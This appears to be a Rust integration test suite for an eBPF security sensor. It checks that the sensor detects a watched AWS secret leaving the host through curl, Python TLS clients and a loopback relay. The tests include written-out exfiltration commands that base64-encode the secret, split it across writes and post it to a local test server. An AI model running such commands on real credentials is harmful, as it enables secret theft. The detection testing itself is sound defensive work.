//! The secret's value itself seen leaving: the agent recognises a watched secret's value in what
//! a process sends off the host — TLS plaintext taken before encryption (curl, Python), plain
//! sockets — encoded and split the way an attacker would, also after a loopback relay, and also
//! from a trusted service, which holds the secret by right and is never tainted by it. A
//! tainted process whose bytes carry no value keeps its plain data-flow alert: severity tells
//! a responder which is which.

use std::fs::{self, File};
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{ensure, Context, Result};
use integration_tests::bpf_objects::map_has_u32_key;
use integration_tests::host_tools::{python_relay, quoted, KilledOnDrop};
use integration_tests::remote_server::{
    certificate, run_tainted, sensor_with_digests, wait_for_stream, Server,
};
use integration_tests::{actor_exe, alert, poll, Lab, Sensor, ALERT_TIMEOUT};
use serde_json::Value;

/// Severity of a data-flow alert, and of one whose bytes carried the value.
const PLAIN: u64 = 73;
const CONFIRMED: u64 = 99;

/// The value of the lab's secret (`aws_secret_access_key = VALUE`), read by the trusted test.
fn secret_value(lab: &Lab) -> Result<String> {
    let text = fs::read_to_string(lab.secret())?;
    let (_, value) = text.split_once('=').context("the lab's secret is `key = value`")?;
    Ok(value.trim().to_owned())
}

/// No line the sensor wrote, on stdout or stderr, holds `value` in any of the forms sent.
fn assert_never_printed(sensor: &Sensor, forms: &[String]) {
    let stdout: Vec<String> = sensor.lines().iter().map(Value::to_string).collect();
    let output = stdout.join("\n") + &sensor.stderr();
    for form in forms {
        assert!(!output.contains(form.as_str()), "the sensor printed a secret form");
    }
}

/// The confirmed alert by `pid`, checked: critical, naming the lab's secret value, `encoding`.
fn expect_confirmed(sensor: &Sensor, pid: u32, encoding: &str) -> Result<Value> {
    let alert = sensor.expect(alert::is_confirmed_by(pid), ALERT_TIMEOUT)?;
    assert_eq!(alert::severity(&alert), Some(CONFIRMED), "{alert:#}");
    assert_eq!(alert::content_encoding(&alert), Some(encoding), "{alert:#}");
    let named = alert::content_value(&alert).unwrap_or_default();
    assert!(named.contains("aws_secret_access_key"), "names the value: {alert:#}");
    Ok(alert)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_secret_sent_base64_encoded_over_tls_by_curl_confirms_its_alert() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let cert = certificate(lab.dir())?;
    let sensor = sensor_with_digests(&lab, &[])?;
    let server = Server::start(&lab, Some(&cert))?;
    let dest = server.addr;
    let upload = format!(
        "sh -c \"base64 -w0 {} | curl -sSk -o /dev/null --max-time 10 -H 'Expect:' --data-binary @- https://{}/\"",
        quoted(lab.secret()),
        dest
    );
    let shell = run_tainted(&lab, &sensor, &upload)?;
    server.received()?;

    let confirmed = sensor
        .expect(|line| alert::is_confirmed(line) && alert::parent_pid(line) == Some(shell), ALERT_TIMEOUT)?;
    let curl = alert::process_pid(&confirmed).context("the alert names its process")?;
    expect_confirmed(&sensor, curl, "base64")?;
    assert_eq!(alert::destination(&confirmed), Some(dest), "{confirmed:#}");
    let plain = sensor.expect(alert::is_exfiltration_by(curl), ALERT_TIMEOUT)?;
    assert_eq!(alert::severity(&plain), Some(PLAIN), "the data-flow alert came first: {plain:#}");
    let value = secret_value(&lab)?;
    let encoded = String::from_utf8(Command::new("base64").arg("-w0").arg(lab.secret()).output()?.stdout)?;
    assert_never_printed(&sensor, &[value, encoded]);
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_base64_encoded_secret_split_across_pythons_tls_writes_is_confirmed() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let cert = certificate(lab.dir())?;
    let sensor = sensor_with_digests(&lab, &[])?;
    let server = Server::start(&lab, Some(&cert))?;
    let dest = server.addr;
    let client = format!(
        "import base64, socket, ssl\n\
         context = ssl.create_default_context()\n\
         context.check_hostname = False\n\
         context.verify_mode = ssl.CERT_NONE\n\
         tls = context.wrap_socket(socket.create_connection(('{ip}', {port}), timeout=10))\n\
         value = base64.b64encode(open({secret:?}).read().split('=')[1].strip().encode())\n\
         tls.sendall(b'POST / HTTP/1.1\\r\\nHost: vigie-test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(value))\n\
         for part in (value[:5], value[5:17], value[17:]):\n    tls.sendall(part)\n\
         tls.recv(4096)\n",
        ip = dest.ip(),
        port = dest.port(),
        secret = lab.secret().display().to_string(),
    );
    let mut python = Command::new("python3").args(["-c", &client]).stdin(Stdio::null()).spawn()?;
    let pid = python.id();
    ensure!(python.wait()?.success(), "the python client failed");
    server.received()?;

    expect_confirmed(&sensor, pid, "base64")?;
    let value = secret_value(&lab)?;
    // `printf %s VALUE | base64`, run by a shell that reads no secret.
    let script = format!("printf %s '{value}' | base64 -w0");
    let encoded = String::from_utf8(Command::new("sh").args(["-c", &script]).output()?.stdout)?;
    assert_never_printed(&sensor, &[value, encoded]);
    Ok(())
}

/// A tainted sender hands the secret to a relay on loopback, which forwards it: the relay is
/// tainted by the loopback connection, and its plain send to the remote host carries the value.
#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_value_forwarded_by_a_loopback_relay_is_confirmed_at_the_relay() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let sensor = sensor_with_digests(&lab, &[])?;
    let server = Server::start(&lab, None)?;
    let dest = server.addr;
    let (relay, relay_addr) = python_relay(IpAddr::V4(Ipv4Addr::LOCALHOST), dest)?;
    let send = format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {}), timeout=5).sendall(open({}, 'rb').read())\"",
        relay_addr.port(),
        quoted(lab.secret())
    );
    let mut relay = KilledOnDrop(relay);
    run_tainted(&lab, &sensor, &send)?;
    let relay_pid = relay.0.id();
    ensure!(relay.0.wait()?.success(), "the relay failed");

    let alert = expect_confirmed(&sensor, relay_pid, "raw")?;
    assert_eq!(alert::destination(&alert), Some(dest), "{alert:#}");
    assert_eq!(alert::via_kind(&alert), Some("loopback-socket"), "{alert:#}");
    assert_never_printed(&sensor, &[secret_value(&lab)?]);
    Ok(())
}

/// The same kind of upload without the value: the data-flow alert stands alone, at its own
/// severity, once the agent has counted every byte of the stream.
#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_tainted_upload_that_carries_no_value_keeps_a_plain_alert() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let cert = certificate(lab.dir())?;
    let sensor = sensor_with_digests(&lab, &[])?;
    let server = Server::start(&lab, Some(&cert))?;
    let dest = server.addr;
    let payload = lab.dir().join("payload");
    fs::write(&payload, "nothing secret here, only a report of the day's weather\n".repeat(40))?;
    let upload = format!(
        "curl -sSk -o /dev/null --max-time 10 -H 'Expect:' --data-binary @{} https://{}/",
        quoted(&payload),
        dest
    );
    let pid = run_tainted(&lab, &sensor, &upload)?;
    let (received, _) = server.received()?;

    let plain = sensor.expect(alert::is_exfiltration_by(pid), ALERT_TIMEOUT)?;
    assert_eq!(alert::severity(&plain), Some(PLAIN), "{plain:#}");
    // Records are handled in order: once every byte is counted, a match would have been reported.
    wait_for_stream(&sensor, pid, "Tainted", "openssl", dest, received)?;
    assert!(sensor.lines_matching(alert::is_confirmed_by(pid)).is_empty(), "no value was sent");
    Ok(())
}

/// A FIFO in `dir`: a curl transfer from it waits until the test opens it for writing.
fn gate(dir: &Path) -> Result<std::path::PathBuf> {
    let path = dir.join("gate");
    let c_path = std::ffi::CString::new(path.as_os_str().as_encoded_bytes())?;
    // SAFETY: a valid NUL-terminated path.
    ensure!(unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) } == 0, "mkfifo {}", path.display());
    Ok(path)
}

/// curl, trusted as a service, may read the secret; it sends the value off the host over TLS
/// (`tls`: its plaintext seen at the TLS write) or plain HTTP (seen where the kernel takes the
/// bytes of a TCP send). It carries no taint, so only the value tells: one alert, critical,
/// its own origin.
fn trusted_service_sending_its_secret_value_is_alerted(tls: bool, path: &str) -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let cert = if tls { Some(certificate(lab.dir())?) } else { None };
    let sensor = sensor_with_digests(&lab, &["--service", "/usr/bin/curl"])?;
    let server = Server::start(&lab, cert.as_ref())?;
    let dest = server.addr;
    let url = format!("{}://{dest}/", if tls { "https" } else { "http" });
    let gate = gate(lab.dir())?;
    // The first transfer waits on the gate, so the upload starts once the kernel trusts curl.
    let mut curl = Command::new("curl")
        .args(["-sS", "-o", "/dev/null"])
        .arg(format!("file://{}", gate.display()))
        .args(["--next", "-sSk", "-o", "/dev/null", "--max-time", "10", "-H", "Expect:", "-T"])
        .arg(lab.secret())
        .arg(url)
        .stdin(Stdio::null())
        .spawn()?;
    let pid = curl.id();
    poll::until(
        "curl trusted",
        ALERT_TIMEOUT,
        || map_has_u32_key(sensor.pid(), "TRUSTED_PIDS", pid),
        |&t| t,
    )?;
    drop(File::options().write(true).open(&gate)?);
    ensure!(curl.wait()?.success(), "curl failed");
    let (received, _) = server.received()?;

    let alert = expect_confirmed(&sensor, pid, "raw")?;
    assert_eq!(alert::origin_pid(&alert), Some(pid), "the service holds it by right: {alert:#}");
    assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{alert:#}");
    wait_for_stream(&sensor, pid, "TrustedService", path, dest, received)?;
    let by_curl = sensor.lines_matching(alert::is_exfiltration_by(pid));
    assert_eq!(by_curl.len(), 1, "no data-flow alert for a trusted reader: {by_curl:#?}");
    assert_never_printed(&sensor, &[secret_value(&lab)?]);
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_trusted_service_sending_its_secret_value_off_the_host_is_alerted() -> Result<()> {
    trusted_service_sending_its_secret_value_is_alerted(true, "openssl")
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_trusted_service_sending_its_secret_value_over_plain_http_is_alerted() -> Result<()> {
    trusted_service_sending_its_secret_value_is_alerted(false, "socket")
}
